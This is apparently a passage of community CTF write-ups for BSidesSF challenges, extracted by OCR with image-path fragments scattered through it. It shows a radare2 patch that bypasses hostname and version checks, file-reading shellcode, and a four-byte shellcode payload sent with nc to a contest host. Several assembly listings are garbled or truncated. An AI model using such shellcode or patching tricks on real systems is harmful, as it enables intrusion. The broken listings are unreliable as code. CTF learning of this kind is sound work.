Because so many of these challenges don’t have their answers published by their organizers after the event is settled, it’s up to the community to put together ’writeups’ of the techniques employed in solving these.

Here’s a few of those.


The NOP instruction is microcode for xchg EAX, EAX


This challenge doesn’t include the flag in a string because it’s spread out over multiple packets. You can easily extract the flag by ’following’ a TCP stream in your network packet capture software of choice.


This challenge doesn’t require you to perform any reverse engineering as the the flag is visible as a direct .symstrtab entry.

zv@syszv >> strings easy-64 | grep -i flag


In this challenge I’m going to use one of the best disassemblers available today: radare . It is both free and contains many facilities for modifying the binary in various ways (without plugins). (You could also solve this challenge with a debugger very easily)

cp tmp/skipper64 /tmp/skipper64-backup # a backup in case you fubar the binary
r2 /tmp/skipper64

Next, seek the read head to the main symbol and tap V key to bring yourself into disassembly.

[0x004026d1]> s main
    0x004026d1      push rbp
    0x004026d2      mov rbp, rsp
    0x004026d5      sub rsp, 0x420
    0x004026dc      mov dword [rbp - 0x414], edi0x004026e2      mov qword [rbp - 0x420], rsi
    0x004026e9      mov rax, qword fs:[0x28]                   ; [0x28:8]=0x3200 ; '('
    0x004026f2      mov qword [rbp - 8], rax
    0x004026f6      xor eax, eax
    0x004026f8      lea rax, [rbp - 0x410]
    0x004026ff      mov rdi, rax
    0x00402702      call 0x400b3e                              ;[1]
    0x00402707      lea rax, [rbp - 0x410]
    0x0040270e      mov rsi, rax
    0x00402711      mov edi, str.Computer_name:__s_n           ; "Computer name: %s." @ 0x402987
    0x00402716      mov eax, 0
    0x0040271b      call sym.imp.printf                        ;[2]
    0x00402720      lea rax, [rbp - 0x410]
    0x00402727      mov esi, str.hax0rz__                      ; "hax0rz!~" @ 0x40299a
    0x0040272c      mov rdi, rax
    0x0040272f      call sym.imp.strcmp                        ;[3]
    0x00402734      test eax, eax
┌─< 0x00402736      je 0x40275b                                ;[4]
│   0x00402738      lea rax, [rbp - 0x410]
│   0x0040273f      mov rsi, rax
│   0x00402742      mov edi, str.Sorry ; "Sorry, your computer's name - %s - is not correct!." @ 0x4029a8
│   0x00402747      mov eax, 0
│   0x0040274c      call sym.imp.printf                        ;[2]
│   0x00402751      mov edi, 9
│   0x00402756      call sym.imp.raise                         ;[5]└─> 0x0040275b      lea rax, [rbp - 0x410]
    0x00402762      mov rdi, rax
    0x00402765      call 0x400c4a                              ;[6]
    0x0040276a      lea rax, [rbp - 0x410]
    0x00402771      mov rsi, rax
    0x00402774      mov edi, str.OS_version:__s_n              ; "OS version: %s." @ 0x4029dc
    0x00402779      mov eax, 0
    0x0040277e      call sym.imp.printf                        ;[2]
    0x00402783      lea rax, [rbp - 0x410]
    0x0040278a      mov esi, str.2.4.31                        ; "2.4.31" @ 0x4029ec
    0x0040278f      mov rdi, rax
    0x00402792      call sym.imp.strcmp                        ;[3]
    0x00402797      test eax, eax
┌─< 0x00402799      je 0x4027e3                                ;[7]
│   0x0040279b      lea rax, [rbp - 0x410]
│   0x004027a2      mov rsi, rax
│   0x004027a5      mov edi,str.Sorry__your_OS_version____s___is_not_supported__n

You can see here that several functions are being called and compared against builtin strings like hax0r!~. The context gives you an idea that it’s checking the hostname, but let’s be sure.

[0x004026d1]> s 0x400b3e
[0x00400b67]> pd 10 @ +64
0x00400ba7      mov edi, 1
0x00400bac      call sym.imp.exit
0x00400bb1      mov ecx, 0
0x00400bb6      mov edx,0x40291f                          ; "-n"
0x00400bbb      mov esi, str.uname                         ; "uname" @ 0x402922
0x00400bc0      mov edi, str.uname                         ; "uname" @ 0x402922
0x00400bc5      mov eax, 0
0x00400bca      call sym.imp.execlp
0x00400bcf      call sym.imp.__errno_location
0x00400bd4      mov eax, dword [rax]

You can see it’s calling uname here. Before you start changing your system’s configuration to accommodate, first know it’s not possible to set your hostname to this value.

This means you are going to either have to use a debugger and manually change the ZF, CF,OF or other condition flags or patch up all of the je instructions.

[0x00400b67]> oo+ # This makes the binary writable
[0x00400b67]> wao jmp @ 0x00402736
[0x00400b67]> wao jmp @ 0x00402799

After this,run the binary and get the flag! FLAG:f51579e9ca38ba87d71539a9992887ff

TODO Skipper2

Easyshell 1

Both of the easyshell puzzles are warmups who run any shellcode sent on the wire. However, you can’t use some of the most common shellcode for spawning /bin/sh as there is no remote shell. This shellcode reads the file /home/ctf/flag.txt

Compile with nasm -f bin flag.asm

section .text

  xor    eax,eax
  xor    ebx,ebx
  xor    ecx,ecxxor    edx,edx
  jmp    read

  pop    rbx
  mov    al,0x5
  xor    ecx,ecx
  int    0x80
  mov    esi,eax
  jmp    read

  mov    al,0x1
  xor    ebx,ebx
  int    0x80

  mov    ebx,esi
  mov    al,0x3
  sub    esp,0x1
  lea    ecx,[rsp]
  mov    dl,0x1
  int    0x80
  xor    ebx,ebx
  cmp    ebx,eax
  je     exit
  mov    al,0x4
  mov    bl,0x1
  mov    d
  int    0x80
  add    esp,0x1
  jmp    readcall   one
  string: db "/home/ctf/flag.txt"

Easyshell 2

Like the prior challenge, you simply just need to write some code to read out a file. I used the following.

section .text
  jmp _push_filename

  ; syscall open file
  pop rdi ; pop path value
  xor rax, rax
  add al, 2
  xor rsi, rsi ; set O_RDONLY flag

  ; syscall read file
  sub sp, 0xfff
  lea rsi, [rsp]
  mov rdi, rax
  xor rdx, rdx
  mov dx, 0xfff; size to read
  xor rax, rax

  ; syscall write to stdout
  xor rdi, rdi
  add dil, 1 ; set stdout fd = 1
  mov rdx, rax
  xor rax, rax
  add al, 1

  ; syscall exit
  xor rax, rax
  add al, 60

  call _readfilepath: db "/home/ctf/flag.txt"


This is a challenge designed to mimic the common constraints exploit authors must deal with.

The premise of the challenge is that you get to execute 5 arbitrary bytes - far shorter than even the shortest shellcode could allow for.

There’s undoubtedly dozens of ways the problem can be solved, I’ve successfully used two:

Direct System Call

Beginning at 0x80487ef, the core code runs:

call   80486db <get_flag> ;; where the 'flag' is gotten
add    esp,0x10
lea    eax,[ebp-0x8c]
mov    esi,eax
mov    ebx,0x1
sub    esp,0x8
lea    eax,[ebp-0x8c]push   eax
push   0x8048946
call   8048500 <printf@plt>
add    esp,0x10
sub    esp,0xc
push   0x8048964
call   8048550 <puts@plt>
add    esp,0x10
sub    esp,0x4
push   0x5
push   DWORD PTR [ebp-0x94]
push   0x0
call   80484f0 <read@plt> ;; where `read` is calledadd    esp,0x10
mov    DWORD PTR [ebp-0x90],eax
mov    edx,0xff
cmp    DWORD PTR [ebp-0x90],0x5
ja     804885c <main+0x10c>
jmp    DWORD PTR [ebp-0x94] ;; here is where it finally jumps in

The last line is where this jmp to attacker-controlled memory actually occurs.

Although the above code snippet doesn’t show it directly, it’s also important to note that the address of the flag read remains stored in ESI when the jmp [ebp-0x94] occurs.

In tandem with the fact that read returns the length of the value read in EAX, you can abuse this by entering a system-call. (Remember, Linux calling convention dictates that x86 system call’s interrupt vector is given in EAX)

So, in total you need to write shellcode that is only 4 bytes long (rather than the maximum permitted of 6), you can have the interrupt vector ’prefilled’ for you. This leaves you with only two tasks:

  •All you need to do now is find an efficient way to copy ESI into ECX (the source register for the read system call)
  • Actually invoking a system call.

There are a number of ways to do the above and due to the idiosyncracies of how assemblers are written and how opcodes are decoded, it’s possible to write many different variations of an instruction that vary wildly in length. Anything that movesthe contents of ESI into ECX will do.After this, you need to initiate a system call, you can use either sysenter or int 0x80 as both are encoded in 2 bytes.

All told, the following shellcode should do just fine.

mov cx, si
int 0x80

I use and recommend Netwide Assembler, although there are other tools like Ragg2. To generate assembly without any sort ofexecutable format, you can use the following argument switches to assemble and hexdump your shellcode:

nasm -f bin assembly.asm && xxd assembly

After this, you can encode it in whichever format you’d like and send it off!

[zv@syszv] /tmp >> echo -en '\x89\xf1\xcd\x80' | \
                   nc i-am-the-shortest-6d15ba72.ctf.bsidessf.net 8890The address of 'flag' is 0xfff3bd5c
Send your machine code now! Maxlength = 5 bytes.



Thisis a little trickier, you need to abuse atleast two different tricks here.